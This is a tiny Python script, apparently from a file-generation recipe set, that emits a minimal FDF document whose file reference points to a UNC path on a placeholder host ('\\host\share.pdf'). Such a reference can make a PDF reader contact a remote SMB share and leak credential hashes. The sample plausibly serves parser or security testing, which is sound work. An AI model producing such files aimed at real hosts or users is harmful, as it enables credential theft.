# SPDX-License-Identifier: GPL-2.0-or-later
from recipes import emit

emit(b"%FDF-1.2\n1 0 obj\n<</FDF<</F(\\\\host\\share.pdf)/Fields[]>>>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n")
